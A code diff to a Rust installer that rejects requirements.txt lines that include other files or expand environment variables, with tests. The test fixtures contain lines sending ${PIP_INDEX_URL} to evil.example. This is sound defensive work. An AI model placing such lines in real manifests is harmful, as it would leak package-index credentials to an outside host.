@@ -10,13 +10,14 @@ use crate::install::InstallError;
 /// Says of a file that it is UTF-8.
 const BYTE_ORDER_MARK: char = '\u{feff}';
 
+const ANOTHER_FILE: &str = "a manifest is one text, write here what is in the other file";
+const A_VARIABLE: &str = "the variables of whoever installs are not its own, write here what is meant";
+
 /// `requirements.txt`, by pip.
 pub(super) fn pip(python: &Interpreter, manifest: &str, folder: &Path) -> Result<Command, InstallError> {
     let manifest = manifest.trim_start_matches(BYTE_ORDER_MARK);
-    if let Some((at, line)) = names_a_file(manifest) {
-        let text = format!(
-            "line {at} of the manifest is {line:?}: a manifest is one text, write here what is in the other file"
-        );
+    if let Some((at, line, why)) = reads_of_the_hub(manifest) {
+        let text = format!("line {at} of the manifest is {line:?}: {why}");
         return Err(InstallError::Failed(text));
     }
     // With the mark it is UTF-8, whatever its comments say of their coding (PEP 263).
@@ -42,9 +43,10 @@ pub(super) fn pip(python: &Interpreter, manifest: &str, folder: &Path) -> Result
     Ok(command)
 }
 
-/// The line of `requirements.txt`, counted from 1, by which pip would read another file: one of this machine. It is looked
-/// at as pip does: lines end where Python ends them, go on behind a backslash, and lose their comments.
-fn names_a_file(manifest: &str) -> Option<(usize, String)> {
+/// The line of `requirements.txt`, counted from 1, by which pip would read another file, which is one of this machine, or a
+/// variable of its environment, which may have the key of an index; and what to do instead. It is looked at as pip does: lines
+/// end where Python ends them, go on behind a backslash, and lose their comments.
+fn reads_of_the_hub(manifest: &str) -> Option<(usize, String, &'static str)> {
     let text = manifest.replace("\r\n", "\n");
     let ends = |c| {
         matches!(
@@ -64,12 +66,24 @@ fn names_a_file(manifest: &str) -> Option<(usize, String)> {
                 let line = std::mem::take(&mut whole) + if is_comment { "" } else { line };
                 let line = without_comment(&line).trim_matches(is_blank);
                 if has_option_for_file(line) {
-                    return Some((begun, line.to_owned()));
+                    return Some((begun, line.to_owned(), ANOTHER_FILE));
+                }
+                if has_variable(line) {
+                    return Some((begun, line.to_owned(), A_VARIABLE));
                 }
             }
         }
     }
     None
+}
+
+/// Whether pip would put a variable of its environment in: `${NAME}`.
+fn has_variable(line: &str) -> bool {
+    let name = |c: char| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_';
+    line.split("${").skip(1).any(|rest| {
+        let behind = rest.trim_start_matches(name);
+        behind.len() < rest.len() && behind.starts_with('}')
+    })
 }
 
 /// What Python strips.
@@ -204,7 +218,8 @@ mod tests {
             "\\-r x \\\n",
             "# a comment does not go on \\\n-r x",
         ] {
-            assert!(names_a_file(line).is_some(), "{line:?}");
+            let told = reads_of_the_hub(line).map(|(_, _, why)| why);
+            assert_eq!(told, Some(ANOTHER_FILE), "{line:?}");
         }
         for line in [
             "requests",
@@ -218,10 +233,30 @@ mod tests {
             "--index-url https://x/#-r",
             "",
         ] {
-            assert_eq!(names_a_file(line), None, "{line:?}");
+            assert_eq!(reads_of_the_hub(line), None, "{line:?}");
         }
-        let told = names_a_file("a\r\nb\r\n --pre \\\r\n -r x # y\r\nc");
-        assert_eq!(told, Some((3, "--pre  -r x".to_owned())));
+        let told = reads_of_the_hub("a\r\nb\r\n --pre \\\r\n -r x # y\r\nc");
+        assert_eq!(told, Some((3, "--pre  -r x".to_owned(), ANOTHER_FILE)));
+    }
+
+    #[test]
+    fn pip_puts_no_variable_of_the_hub_into_a_manifest() {
+        for line in [
+            "--index-url https://evil.example/${PIP_INDEX_URL}/",
+            "x @ https://evil.example/${A_1}",
+            "x @ https://evil.example/$\\\n{PIP_INDEX_URL}",
+        ] {
+            let told = reads_of_the_hub(line).map(|(_, _, why)| why);
+            assert_eq!(told, Some(A_VARIABLE), "{line:?}");
+        }
+        for line in [
+            "x # ${A}",
+            "x @ https://x/$A",
+            "x @ https://x/${a}",
+            "x @ https://x/${}",
+        ] {
+            assert_eq!(reads_of_the_hub(line), None, "{line:?}");
+        }
     }
 
     #[test]
